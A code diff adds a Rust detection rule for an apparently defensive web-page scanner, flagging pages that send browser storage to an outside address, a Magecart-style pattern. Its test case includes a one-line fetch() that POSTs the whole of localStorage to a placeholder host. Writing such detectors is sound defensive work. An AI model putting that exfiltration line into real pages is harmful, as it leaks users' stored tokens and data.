@@ -1,0 +1,18 @@
+//! `storage-sent-abroad`.
+
+use crate::signals::{Atom, Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "storage-sent-abroad",
+    description: "What the page keeps in the browser's storage reaches an absolute address.",
+    severity: Severity::Medium,
+    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
+    needs: &[one(&[Atom::StorageSentAbroad])],
+    within: 0,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &["fetch('https://c.example/s',{method:'POST',body:JSON.stringify(localStorage)})"],
+        without: &["localStorage.setItem('seen',1);fetch('https://c.example/hello')"],
+    },
+};
